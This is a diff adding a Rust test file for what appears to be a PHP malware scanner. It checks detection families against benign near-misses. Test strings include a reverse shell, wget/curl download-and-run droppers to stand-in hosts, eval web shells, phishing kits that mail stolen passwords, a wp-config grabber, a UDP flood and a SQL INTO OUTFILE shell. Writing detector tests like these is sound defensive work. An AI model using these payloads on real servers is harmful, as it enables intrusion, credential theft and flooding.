@@ -1,0 +1,442 @@
+//! Each family: a shape it finds and a near-miss it leaves alone; the own-written fixtures.
+
+use super::*;
+use crate::sweep::php;
+
+fn whys(src: &str) -> Vec<(Why, Danger)> {
+    let t = php::tokenize(src.as_bytes(), 100_000);
+    let small = t.len() < 400;
+    analyze(src.as_bytes(), &t, Options { small }).into_iter().map(|s| (s.why, s.danger)).collect()
+}
+
+fn found(src: &str) -> Vec<Why> {
+    whys(src).into_iter().map(|(w, _)| w).collect()
+}
+
+/// The own-written fixtures of each family (the integration test sweeps them all) give the
+/// family's reason through `detect::judge`, so they are reported.
+#[test]
+fn each_fixture_is_reported_for_its_family() {
+    let cases: &[(&str, &str, Why)] = &[
+        (
+            "backdating_self_deleting_dropper.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/backdating_self_deleting_dropper.php"),
+            Why::BackdatesFiles,
+        ),
+        (
+            "reverse_shell_socket.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/reverse_shell_socket.php"),
+            Why::RemoteShell,
+        ),
+        (
+            "irc_bot_privmsg.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/irc_bot_privmsg.php"),
+            Why::NetworkBot,
+        ),
+        (
+            "udp_flood_loop.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/udp_flood_loop.php"),
+            Why::NetworkBot,
+        ),
+        (
+            "socket_relay_from_request.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/socket_relay_from_request.php"),
+            Why::NetworkFromInput,
+        ),
+        (
+            "googlebot_curl_cloak.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/googlebot_curl_cloak.php"),
+            Why::SearchEngineCloaking,
+        ),
+        (
+            "credential_mailer_kit.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/credential_mailer_kit.php"),
+            Why::CredentialCollector,
+        ),
+        (
+            "php_dropper_literal.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/php_dropper_literal.php"),
+            Why::WritesCodeWithInput,
+        ),
+        (
+            "wget_chmod_run.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/wget_chmod_run.php"),
+            Why::DownloadsProgram,
+        ),
+        (
+            "server_console_form.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/server_console_form.php"),
+            Why::WebShellConsole,
+        ),
+        (
+            "injected_obfuscated_script.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/injected_obfuscated_script.php"),
+            Why::InjectedScript,
+        ),
+        (
+            "injected_throwaway_domain_script.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/injected_throwaway_domain_script.php"),
+            Why::InjectedScript,
+        ),
+        (
+            "ini_restore_bypass.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/ini_restore_bypass.php"),
+            Why::PhpWeakened,
+        ),
+        (
+            "config_grabber_homes.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/config_grabber_homes.php"),
+            Why::ReadsOtherSites,
+        ),
+        (
+            "form_field_register_globals_shell.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/form_field_register_globals_shell.php"),
+            Why::ShellFromInput,
+        ),
+        (
+            "upload_form_field_copy.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/upload_form_field_copy.php"),
+            Why::UploadDropper,
+        ),
+        (
+            "location_beacon_mail.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/location_beacon_mail.php"),
+            Why::ReportsItsLocation,
+        ),
+        (
+            "mass_mailer_textarea_loop.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/mass_mailer_textarea_loop.php"),
+            Why::MailFromInput,
+        ),
+        (
+            "mass_script_injector.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/mass_script_injector.php"),
+            Why::InjectedScript,
+        ),
+        (
+            "form_field_file_editor.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/form_field_file_editor.php"),
+            Why::UploadDropper,
+        ),
+        (
+            "sql_into_outfile_shell.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/sql_into_outfile_shell.php"),
+            Why::DatabaseWritesFile,
+        ),
+    ];
+    for (name, text, why) in cases {
+        let hits = crate::sweep::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
+        assert!(hits.iter().any(|h| h.why == *why && h.danger >= Danger::Medium), "{name}: {hits:?}");
+    }
+}
+
+#[test]
+fn backdating_and_self_deletion_are_found() {
+    let dropper = "<?php if (file_exists('./x.php')) { touch('./x.php', time() - 60*60*24*30); } unlink(__FILE__);";
+    assert_eq!(whys(dropper), [(Why::BackdatesFiles, Danger::High), (Why::DeletesItself, Danger::High)]);
+    assert_eq!(found("<?php touch($f, strtotime('2014-03-02 10:00:00'));"), [Why::BackdatesFiles]);
+    assert_eq!(found("<?php touch($f, 1388534400);"), [Why::BackdatesFiles]);
+    assert_eq!(whys("<?php @unlink($_SERVER['SCRIPT_FILENAME']);"), [(Why::DeletesItself, Danger::Medium)]);
+}
+
+#[test]
+fn ordinary_touch_and_unlink_are_quiet() {
+    // Tests age a cache file by seconds; caches touch with the current time.
+    assert!(found("<?php touch(__DIR__.'/tmp/a', time() - 3); touch($file); touch($f, time());").is_empty());
+    assert!(found("<?php unlink($tmp); @unlink($this->file);").is_empty());
+    // A generator writing a self-deleting script is text, not a call.
+    assert!(found("<?php $data .= 'if (@unlink(__FILE__)) {' . \"\\n\";").is_empty());
+    // Copying another file's time is weak on its own in a large file.
+    let big = format!("<?php {} touch($to, filemtime($from));", "$a = 1; ".repeat(200));
+    assert_eq!(whys(&big), [(Why::BackdatesFiles, Danger::Low)]);
+}
+
+#[test]
+fn remote_shells_and_bots_are_found() {
+    let reverse = "<?php $s = fsockopen($ip, 4444); $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);";
+    assert_eq!(found(reverse), [Why::RemoteShell]);
+    let irc = "<?php $c = fsockopen($server, 6667); fputs($c, \"NICK $nick\\r\\n\"); \
+               while ($l = fgets($c)) { if (strpos($l, 'PRIVMSG') !== false) { fputs($c, \"PRIVMSG #c :ok\\r\\n\"); } }";
+    assert_eq!(found(irc), [Why::NetworkBot]);
+    let flood = "<?php set_time_limit(0); $h = $_GET['h']; $end = time() + 60; \
+                 while (time() < $end) { $f = fsockopen('udp://' . $h, rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); fclose($f); }";
+    assert!(found(flood).contains(&Why::NetworkBot), "{:?}", found(flood));
+}
+
+#[test]
+fn mail_clients_and_lookups_are_not_bots() {
+    let pop3 =
+        "<?php $fp = fsockopen($server, 110); fputs($fp, \"USER $user\\r\\n\"); fputs($fp, \"PASS $pass\\r\\n\");";
+    assert!(found(pop3).is_empty());
+    let dns = "<?php $fp = fsockopen('udp://' . $dns, 53); for ($i = 0; $i < 3; $i++) { fwrite($fp, $query); }";
+    assert!(found(dns).is_empty());
+    let smtp = "<?php $fp = fsockopen($config['smtp_host'], 25); exec('hostname', $out);";
+    assert!(found(smtp).is_empty());
+    // A parameter named `cmd` is not a shell handed to a socket.
+    let agent = "<?php $fp = fsockopen($host, 9000); $c = $opts['cmd']; exec('uptime', $out);";
+    assert!(found(agent).is_empty());
+}
+
+#[test]
+fn visitor_chosen_connections_are_found() {
+    let relay = "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, $_GET['i'], $_GET['p']); socket_send($s, $_GET['m'], 99, 0);";
+    assert_eq!(whys(relay), [(Why::NetworkFromInput, Danger::High)]);
+    let through = "<?php $host = trim($_POST['host']); $fp = fsockopen($host, 80);";
+    assert_eq!(found(through), [Why::NetworkFromInput]);
+    assert!(found("<?php $fp = fsockopen($this->host, $this->port);").is_empty());
+}
+
+#[test]
+fn search_engine_cloaking_is_found() {
+    let cloak = "<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($ua, 'googlebot') !== false) { \
+                 $ch = curl_init('http://spam.example/page?u=' . $_SERVER['REQUEST_URI']); \
+                 curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($ch); exit; }";
+    assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
+    let bare = "<?php $b = getenv('HTTP_USER_AGENT'); if (stristr($b, 'bing')) { echo file_get_contents('http://links.example/l.txt'); }";
+    assert_eq!(found(bare), [Why::SearchEngineCloaking]);
+    // A cache that skips crawlers fetches nothing.
+    let cache = "<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { return; } $page = file_get_contents($cache_file);";
+    assert!(found(cache).is_empty());
+    // A theme telling old browsers apart, with Google's fonts and a local file read.
+    let theme = "<?php $ie = strpos($_SERVER['HTTP_USER_AGENT'], 'MSIE') !== false; \
+                 $fonts = 'https://fonts.googleapis.com/css?family=Lato'; $json = file_get_contents(__DIR__ . '/theme.json');";
+    assert!(found(theme).is_empty());
+}
+
+#[test]
+fn search_engine_visitors_redirected_are_found() {
+    let redirect = "<?php $r = $_SERVER['HTTP_REFERER']; if (preg_match('/google|yahoo|bing/i', $r)) { \
+                    header('Location: ' . 'https://pills.example/?k=' . urlencode($r)); exit; }";
+    assert_eq!(found(redirect), [Why::SearchEngineCloaking]);
+    let hidden = "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) { \
+                  echo file_get_contents(base64_decode('aHR0cDovL2xpbmtzLmV4YW1wbGUvcA==')); }";
+    assert_eq!(found(hidden), [Why::SearchEngineCloaking]);
+}
+
+#[test]
+fn redirects_without_search_engines_are_quiet() {
+    let login = "<?php if (strpos($_SERVER['HTTP_REFERER'], $site) === false) { header('Location: https://' . $site . '/login'); }";
+    assert!(found(login).is_empty());
+}
+
+#[test]
+fn droppers_are_found() {
+    let code = "<?php $f = fopen('wp-content/x.php', 'w'); fwrite($f, '<?php @eval($_POST[\"p\"]); ?>'); fclose($f);";
+    assert_eq!(found(code), [Why::WritesCodeWithInput]);
+    let download = "<?php system('cd /tmp; wget http://203.0.113.9/bot.pl -O b.pl; perl b.pl');";
+    assert_eq!(found(download), [Why::DownloadsProgram]);
+    let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
+    assert_eq!(found(chmod), [Why::DownloadsProgram]);
+    let pieces = "<?php $u = 'http://203.0.113.9/k'; exec('wget ' . 'http://203.0.113.9/k' . ' -O /tmp/k; chmod 755 /tmp/k; /tmp/k');";
+    assert_eq!(found(pieces), [Why::DownloadsProgram]);
+}
+
+#[test]
+fn installers_and_commands_that_run_nothing_are_quiet() {
+    let config = "<?php file_put_contents($path, '<?php return ' . var_export($settings, true) . ';');";
+    assert!(found(config).is_empty());
+    let health = "<?php exec('curl -s https://status.example.org/health', $out);";
+    assert!(found(health).is_empty());
+    // A download described in text, with no shell call in the file.
+    assert!(found("<?php $help = 'Run: wget https://example.org/x.tar.gz && sh install.sh';").is_empty());
+    // A comment describing an install, in a file that runs an unrelated command.
+    let comment = "<?php\n// wget https://example.org/tool -O tool && chmod +x tool && ./tool\nexec('uptime', $out);";
+    assert!(found(comment).is_empty());
+}
+
+#[test]
+fn web_shell_consoles_are_found() {
+    let console = "<form method=post><input name=d></form><?php echo php_uname(); echo get_current_user(); \
+                   echo ini_get('disable_functions'); $d = $_POST['d']; foreach (scandir($d) as $x) { echo $x; } \
+                   if (isset($_POST['rm'])) { unlink($_POST['rm']); } if (isset($_POST['mv'])) { rename($_POST['mv'], $_POST['to']); }";
+    assert_eq!(found(console), [Why::WebShellConsole]);
+}
+
+#[test]
+fn libraries_that_check_the_server_are_quiet() {
+    // WordPress-like filesystem checks: the same functions, nothing shown to the visitor.
+    let lib = "<?php function method() { if (getmyuid() === fileowner(__FILE__)) { return 'direct'; } \
+               $free = disk_free_space(WP_CONTENT_DIR); $p = fileperms($f); } \
+               function form() { ?><form><input name=host><?php $h = $_POST['host']; rename($a, $b); unlink($c); $l = scandir($d); }";
+    assert!(found(lib).is_empty());
+}
+
+#[test]
+fn injected_scripts_are_found() {
+    let hidden =
+        "<script>var _0x3f2a=['\\x68\\x72\\x65\\x66'];document[_0x3f2a[0]]='x';</script><?php\n// Silence is golden.\n";
+    assert_eq!(found(hidden), [Why::InjectedScript]);
+    let foreign = "<script type='text/javascript' src='https://stats.lovely-cats.tk/m.js?n=1'></script><?php\n";
+    assert_eq!(found(foreign), [Why::InjectedScript]);
+    let codes = "<?php echo '<script>eval(String.fromCharCode(118, 97, 114, 32))</script>';";
+    assert_eq!(whys(codes), [(Why::InjectedScript, Danger::Medium)]);
+    assert_eq!(whys(hidden), [(Why::InjectedScript, Danger::High)]);
+}
+
+#[test]
+fn mass_script_injectors_are_found() {
+    let walker = "<?php foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root)) as $p) { \
+                  if (substr($p, -4) == '.php') { $c = file_get_contents($p); \
+                  file_put_contents($p, '<script src=\"https://cdn.example.com/a.js\"></script>' . $c); } }";
+    assert_eq!(found(walker), [Why::InjectedScript]);
+}
+
+#[test]
+fn one_page_with_a_script_written_once_is_quiet() {
+    // A plugin writing its own page (no folder walk) is not an injector.
+    let page = "<?php file_put_contents($dir . '/index.html', '<html><script src=\"app.js\"></script></html>');";
+    assert!(found(page).is_empty());
+}
+
+#[test]
+fn ordinary_scripts_are_quiet() {
+    let theme = "<script src=\"https://cdn.jsdelivr.net/npm/jquery@3/dist/jquery.min.js\"></script><?php wp_head(); ?>";
+    assert!(found(theme).is_empty());
+    // Content sniffers compare bytes with '<script' and binary signatures: no script tag.
+    let sniffer = "<?php if (substr($b, 0, 7) === '<script') { return 'text/html'; } \
+                   if ($b === \"\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x01\") { return 'x'; }";
+    assert!(found(sniffer).is_empty());
+    // Mail obfuscators print a document.write of escaped text.
+    let mailto = "<?php echo '<script type=\"text/javascript\">document.write(unescape(\\'' . $enc . '\\'))</script>';";
+    assert!(found(mailto).is_empty());
+}
+
+#[test]
+fn credential_collectors_are_found() {
+    let kit = "<?php $ip = getenv('REMOTE_ADDR'); $m = \"Email : \" . $_POST['email'] . \"\\n\"; \
+               $m .= \"Password : \" . $_POST['pass'] . \"\\n\"; mail('drop@example.net', 'login ' . $ip, $m); \
+               header('Location: https://mail.example.com/');";
+    assert_eq!(found(kit), [Why::CredentialCollector]);
+    let saved = "<?php $f = fopen('cards.txt', 'a'); fwrite($f, \"Card: $_POST[ccnum]\\nCVV: $_POST[cvv]\\n\");";
+    assert_eq!(found(saved), [Why::CredentialCollector]);
+    let chat = "<?php $t = \"User: \" . $_POST['user'] . \"\\nPass: \" . $_POST['pass']; \
+                file_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($t));";
+    assert_eq!(found(chat), [Why::CredentialCollector]);
+}
+
+#[test]
+fn order_forms_are_not_collectors() {
+    let order = "<?php $m = 'Email: ' . $_POST['email'] . \"\\n\"; $m .= 'Shipping: ' . $_POST['shipping'] . \"\\n\"; \
+                 $m .= 'Express: ' . $_POST['express_delivery']; mail($shop, 'New order', $m);";
+    assert!(found(order).is_empty());
+}
+
+#[test]
+fn login_forms_are_not_collectors() {
+    let login = "<?php if (password_verify($_POST['password'], $hash)) { mail($admin, 'New login', 'User ' . $name . ' logged in'); }";
+    assert!(found(login).is_empty());
+    let register =
+        "<?php $msg = 'Welcome, your user name is: ' . $_POST['user']; mail($_POST['email'], 'Welcome', $msg);";
+    assert!(found(register).is_empty());
+}
+
+#[test]
+fn protection_bypasses_and_config_grabbers_are_found() {
+    assert_eq!(found("<?php ini_restore('safe_mode'); ini_restore('open_basedir');"), [Why::PhpWeakened]);
+    let grab = "<?php $users = file('/etc/passwd'); foreach ($users as $u) { $n = explode(':', $u)[0]; \
+                copy('/home/' . $n . '/public_html/wp-config.php', $n . '.txt'); }";
+    assert_eq!(found(grab), [Why::ReadsOtherSites]);
+    assert_eq!(found("<?php symlink('/', 'root');"), [Why::ReadsOtherSites]);
+}
+
+#[test]
+fn form_fields_run_as_variables_are_found() {
+    let shell = "<form method=post><input name='c'></form><?php if ($c) { echo shell_exec($c); }";
+    assert_eq!(found(shell), [Why::ShellFromInput]);
+    let code = "<?php echo '<textarea name=\"php\"></textarea>'; if (isset($php)) { eval($php); }";
+    assert_eq!(found(code), [Why::CodeFromInput]);
+    let upload = "<input type=file name=f><?php move_uploaded_file($f, 'x.php');";
+    assert_eq!(found(upload), [Why::UploadDropper]);
+}
+
+#[test]
+fn old_editors_writing_a_form_named_file_are_found() {
+    let editor = "<input name='target'><textarea name='text'></textarea><?php \
+                  $h = fopen(\"$dir/$target\", 'w'); fwrite($h, $text); fclose($h);";
+    assert_eq!(found(editor), [Why::UploadDropper]);
+}
+
+#[test]
+fn editors_that_set_the_file_themselves_are_quiet() {
+    // The field has the same name, but the code sets the variable (from a checked list).
+    let editor = "<input name='file'><?php $file = validate_file_to_edit($_REQUEST['file'], $allowed); \
+                  $f = fopen($file, 'w+'); fwrite($f, $content);";
+    assert!(found(editor).is_empty());
+    assert!(found("<input name='file'><?php function save($file) { $f = fopen($file, 'w'); }").is_empty());
+    assert!(found("<input name='log'><?php $h = fopen($log, 'r');").is_empty());
+}
+
+#[test]
+fn form_fields_apart_from_commands_are_quiet() {
+    let page = "<form><input name='host'></form><?php $cmd = 'uptime'; exec($cmd, $out); echo htmlspecialchars($host);";
+    assert!(found(page).is_empty());
+    let method = "<input name='q'><?php $db->exec($q);";
+    assert!(found(method).is_empty());
+}
+
+#[test]
+fn mass_mailers_are_found() {
+    let list = "<textarea name=emails></textarea><?php $all = explode(\"\\n\", $_POST['emails']); \
+                foreach ($all as $to) { mail($to, $subject, $body); }";
+    assert_eq!(found(list), [Why::MailFromInput]);
+    let globals = "<input name='kime'><?php mail($kime, $baslik, $icerik, 'From: ' . $kim);";
+    assert_eq!(found(globals), [Why::MailFromInput]);
+}
+
+#[test]
+fn contact_forms_are_not_mass_mailers() {
+    // One message to the site's owner, the visitor only in the text.
+    let contact =
+        "<textarea name=msg></textarea><?php $m = $_POST['msg']; foreach ($admins as $a) { mail($a, 'Contact', $m); }";
+    assert!(found(contact).is_empty());
+}
+
+#[test]
+fn location_beacons_are_found() {
+    let beacon =
+        "<?php $m = \"$_SERVER[DOCUMENT_ROOT]\" . $_SERVER['SCRIPT_FILENAME']; mail('x@example.net', 'up', $m);";
+    assert_eq!(found(beacon), [Why::ReportsItsLocation]);
+}
+
+#[test]
+fn error_mails_naming_the_page_are_quiet() {
+    let report = "<?php $m = 'Error on ' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; mail($admin, 'error', $m);";
+    assert!(found(report).is_empty());
+    // A path read for the site's own use, no mail.
+    assert!(
+        found("<?php $a = $_SERVER['DOCUMENT_ROOT']; $b = $_SERVER['SCRIPT_FILENAME']; mailer_log($a);").is_empty()
+    );
+}
+
+#[test]
+fn own_paths_and_settings_checks_are_quiet() {
+    assert!(found("<?php if (ini_get('safe_mode')) { $warn = true; }").is_empty());
+    assert!(found("<?php $root = '/home/' . $user . '/public_html/'; touch($root . 'x');").is_empty());
+    assert!(found("<?php symlink($target, $link);").is_empty());
+}
+
+#[test]
+fn nested_calls_are_read_a_bounded_way() {
+    // `touch(touch(touch(…` would make reading each call's arguments quadratic.
+    let src = format!("<?php {}", "touch(".repeat(20_000));
+    let t = php::tokenize(src.as_bytes(), 100_000);
+    assert_eq!(tokens::close_of(&t, 1), 1 + tokens::MAX_CALL_TOKENS);
+    assert!(tokens::args(&t, 1).iter().all(|a| a.len() < tokens::MAX_CALL_TOKENS));
+    assert!(found(&src).is_empty());
+}
+
+#[test]
+fn the_database_made_to_write_files_is_found() {
+    let shell = "<?php mysql_query(\"SELECT '<?php eval(\\$_POST[1]); ?>' INTO OUTFILE '/var/www/x.php'\");";
+    assert_eq!(whys(shell), [(Why::DatabaseWritesFile, Danger::High)]);
+    let udf = "<?php $q = \"SELECT data FROM tmp INTO DUMPFILE '$plugin_dir/x.so'\"; mysql_query($q);";
+    assert_eq!(whys(udf), [(Why::DatabaseWritesFile, Danger::High)]);
+    let export = "<?php $db->query(\"SELECT * FROM orders INTO OUTFILE '$csv'\");";
+    assert_eq!(whys(export), [(Why::DatabaseWritesFile, Danger::Medium)]);
+}
+
+#[test]
+fn sql_documentation_is_quiet() {
+    // A parser's comment, and a keyword list, are not statements.
+    assert!(found("<?php /* select ... INTO OUTFILE 'file_name' */ $k = ['INTO', 'OUTFILE'];").is_empty());
+}
